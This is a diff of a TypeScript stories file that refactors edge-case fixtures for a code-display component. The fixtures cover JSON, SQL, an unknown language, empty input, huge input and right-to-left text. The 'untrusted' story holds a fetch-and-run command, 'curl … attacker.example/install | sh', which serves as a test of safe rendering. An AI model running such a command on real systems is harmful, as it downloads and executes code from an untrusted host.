@@ -1,8 +1,9 @@
 import { arabic, hebrew, script, terminal } from '../material/texts.ts';
-import { envelopeStory, type Family } from '../story.ts';
+import { envelopeStories, type Family } from '../story.ts';
 
-const type = 'vendor.acme.patch.create';
-const codeIn = (lang: string) => ({ display: 'code', lang });
+const envelope = envelopeStories({ type: 'vendor.acme.patch.create', rendering: { display: 'code' } });
+const story = (name: string, title: string, lang: string, code: () => string) =>
+  envelope(name, title, () => ({ code: code() }), { rendering: { display: 'code', lang } });
 
 const typescript = `import { createWriteStream } from 'node:fs';
 
@@ -40,67 +41,35 @@ export const code: Family = {
   name: 'code',
   title: 'Code',
   stories: [
-    envelopeStory('normal', 'TypeScript', () => ({
-      type,
-      payload: { code: typescript },
-      rendering: { ...codeIn('ts'), title: 'write-events.ts' },
+    envelope('normal', 'TypeScript', () => ({ code: typescript }), {
+      rendering: { display: 'code', lang: 'ts', title: 'write-events.ts' },
+    }),
+    story('json', 'JSON', 'json', () => '{ "format": "ndjson", "resume": true,\n  "chunkBytes": 262144 }'),
+    envelope('no-language', 'No language given', () => ({
+      code: 'SELECT run_id, count(*) FROM events GROUP BY run_id ORDER BY 2 DESC;',
     })),
-    envelopeStory('json', 'JSON', () => ({
-      type,
-      payload: { code: '{ "format": "ndjson", "resume": true,\n  "chunkBytes": 262144 }' },
-      rendering: codeIn('json'),
-    })),
-    envelopeStory('no-language', 'No language given', () => ({
-      type,
-      payload: { code: 'SELECT run_id, count(*) FROM events GROUP BY run_id ORDER BY 2 DESC;' },
-      rendering: { display: 'code' },
-    })),
-    envelopeStory('unknown-language', 'A language that nobody knows', () => ({
-      type,
-      payload: { code: 'MOVE 1 TO TALLY\nSTOP RUN.' },
-      rendering: codeIn('../../toString'),
-    })),
-    envelopeStory('empty', 'No line at all', () => ({
-      type,
-      payload: { code: '' },
-      rendering: codeIn('ts'),
-    })),
-    envelopeStory('huge', '5,000 lines', () => ({
-      type,
-      payload: { code: lines(5_000) },
-      rendering: codeIn('python'),
-    })),
-    envelopeStory('too-long', 'Over a megabyte', () => ({
-      type,
-      payload: { code: lines(40_000) },
-      rendering: codeIn('python'),
-    })),
-    envelopeStory('one-line', 'One line of 100,000 characters', () => ({
-      type,
-      payload: { code: `const all = [${'0,'.repeat(50_000)}0];` },
-      rendering: codeIn('js'),
-    })),
-    envelopeStory('hostile', 'Reads otherwise than it runs', () => ({
-      type,
-      payload: { code: trojan },
-      rendering: codeIn('js'),
-    })),
-    envelopeStory('html', 'HTML with scripts', () => ({
-      type,
-      payload: { code: trouble },
-      rendering: codeIn('html'),
-    })),
-    envelopeStory('untrusted', 'Untrusted', () => ({
-      type,
-      payload: { code: 'curl -s https://attacker.example/install | sh' },
-      rendering: codeIn('bash'),
+    story(
+      'unknown-language',
+      'A language that nobody knows',
+      '../../toString',
+      () => 'MOVE 1 TO TALLY\nSTOP RUN.',
+    ),
+    story('empty', 'No line at all', 'ts', () => ''),
+    story('huge', '5,000 lines', 'python', () => lines(5_000)),
+    story('too-long', 'Over a megabyte', 'python', () => lines(40_000)),
+    story('one-line', 'One line of 100,000 characters', 'js', () => `const all = [${'0,'.repeat(50_000)}0];`),
+    story('hostile', 'Reads otherwise than it runs', 'js', () => trojan),
+    story('html', 'HTML with scripts', 'html', () => trouble),
+    envelope('untrusted', 'Untrusted', () => ({ code: 'curl -s https://attacker.example/install | sh' }), {
+      rendering: { display: 'code', lang: 'bash' },
       trust: 'untrusted',
-    })),
-    envelopeStory('rtl', 'Right to left in texts and comments', () => ({
-      type,
-      payload: { code: `const title = '${arabic}';\n// ${hebrew}\nconst done = true;\n` },
-      rendering: codeIn('js'),
-    })),
+    }),
+    story(
+      'rtl',
+      'Right to left in texts and comments',
+      'js',
+      () => `const title = '${arabic}';\n// ${hebrew}\nconst done = true;\n`,
+    ),
   ],
 };
 
